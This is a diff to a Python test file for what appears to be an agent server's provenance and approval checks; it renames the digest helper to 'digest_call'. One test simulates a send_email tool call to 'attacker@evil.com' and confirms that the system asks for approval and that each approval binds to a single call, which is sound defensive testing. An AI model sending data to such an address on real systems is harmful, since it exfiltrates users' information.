@@ -4,11 +4,11 @@ import json
 
 import pytest
 
+from agentserver.guards.lineage.asking import digest_call
 from agentserver.observers import fields
 from agentserver.provenance import Mode, explain
 from agentserver.provenance.evidence.labels import Call, Leaf
 from agentserver.provenance.explanation import export_findings
-from agentserver.provenance.library.approval import digest
 from agentserver.provenance.verdict import Decision
 from tests.provenance.scenes import Scenario, desk
 
@@ -89,7 +89,7 @@ def test_an_approval_binds_to_one_call() -> None:
     one, other = (scene(Mode.CONFIRM).call("send_email", to="attacker@evil.com", body=body) for body in "xy")
     assert one.decision is Decision.ASK
     assert "attacker@evil.com" in explain(one)
-    assert digest(one.call) != digest(other.call)
+    assert digest_call(one.call) != digest_call(other.call)
 
 
 def test_two_calls_never_share_a_digest() -> None:
@@ -100,5 +100,5 @@ def test_two_calls_never_share_a_digest() -> None:
         Call("t", (Leaf("a", "1"),), 1),
         Call("s", (Leaf("a", "1"), Leaf("a", "1")), 1),
     ]
-    assert len({digest(call) for call in calls}) == len(calls)
-    assert digest(calls[0]) == digest(Call("s", (Leaf("a", "1"),), 7, time=3.0))
+    assert len({digest_call(call) for call in calls}) == len(calls)
+    assert digest_call(calls[0]) == digest_call(Call("s", (Leaf("a", "1"),), 7, time=3.0))
